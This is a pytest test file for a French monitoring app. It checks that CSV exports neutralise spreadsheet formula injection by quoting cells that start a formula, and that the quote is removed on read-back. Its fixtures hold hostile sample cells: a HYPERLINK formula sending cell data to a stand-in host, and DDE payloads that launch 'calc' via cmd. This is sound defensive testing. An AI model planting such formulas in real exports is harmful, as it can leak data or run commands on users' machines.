"""Every CSV veille writes (a dossier, the catalogue; from the web and the command line) opens
in a spreadsheet without running what an item holds: a cell that would start a formula is
written behind a `'` (OWASP), and the catalogue read back gets the text as it was."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.webui.support import signed_in
from veille.diffuse import dossiers
from veille.instance import open_instance
from veille.settings import load_settings
from veille.text.spreadsheet import inert, unquoted
from webui import create_app

# What a feed or an import may put in a title or a source name, and a note may hold.
LINK = '=HYPERLINK("https://pirate.test/?vol="&A1;"Cliquez ici")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
CALL = "+33 3 87 00 00 00, la ligne de l'emploi"
DROP = "-20 % d'apprentis en Moselle"
COMMAND = "=cmd|' /C calc'!A0"
ITEMS = [
    {"id": "lien", "title": LINK, "source": SUM, "kind": "resource",
     "content": "Une ressource au titre piégé.", "published": "2026-03-01T10:00:00+01:00"},
    {"id": "appel", "title": CALL, "source": DROP, "kind": "news",
     "content": "Une actualité au titre qui commence par un plus.",
     "published": "2026-03-02T10:00:00+01:00"},
]


@pytest.fixture
def forum(veille, tmp_path: Path) -> int:
    """A team dossier "Forum" holding both items (a note that is a formula on the first),
    the first also a resource of the catalogue; returns the dossier's id."""
    lines = tmp_path / "items.jsonl"
    lines.write_text("".join(json.dumps(item) + "\n" for item in ITEMS), encoding="utf-8")
    veille("init")
    veille("import", str(lines))
    veille("dossiers", "create", "Forum")
    veille("dossiers", "add", "Forum", "lien", "--note", COMMAND)
    veille("dossiers", "add", "Forum", "appel", "--note", "À lire")
    return dossiers.named(open_instance(load_settings()), "Forum").id


def web(path: str) -> Callable[..., str]:
    def export(veille, dossier_id: int) -> str:
        client = signed_in(create_app({"TESTING": True}), open_instance(load_settings()),
                           "advisor")
        response = client.get(path.format(dossier_id=dossier_id))
        assert response.status_code == 200 and response.mimetype == "text/csv"
        return response.get_data(as_text=True)
    return export


def command(*args: str) -> Callable[..., str]:
    def export(veille, dossier_id: int) -> str:
        return veille(*args).stdout
    return export


EXPORTS = {
    "dossier on the web": web("/dossiers/{dossier_id}/export.csv"),
    "dossier from the command line": command("dossiers", "export", "Forum", "--format", "csv"),
    "catalogue on the web": web("/resources/export.csv"),
    "catalogue from the command line": command("resources", "export-csv"),
}


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_no_cell_of_any_csv_starts_a_formula(veille, forum, export):
    cells = [cell for row in csv.reader(io.StringIO(export(veille, forum))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{LINK}" in cells
    assert {f"'{SUM}", f"'{CALL}", f"'{DROP}", f"'{COMMAND}"} & set(cells)


@pytest.mark.parametrize("text", [LINK, SUM, CALL, DROP, COMMAND, "\tTabulation",
                                  "\rRetour", "'=déjà cité", "''-deux fois"])
def test_a_formula_goes_out_behind_a_quote_and_reads_back_as_it_was(text):
    assert inert(text) == f"'{text}"
    assert unquoted(inert(text)) == text


@pytest.mark.parametrize("text", ["Soudeurs recherchés", "'Cité' entre guillemets", "", "a=b"])
def test_other_text_goes_out_as_it_is(text):
    assert inert(text) == text and unquoted(text) == text


def test_numbers_go_out_as_numbers():
    assert inert(-3) == -3 and inert(None) is None
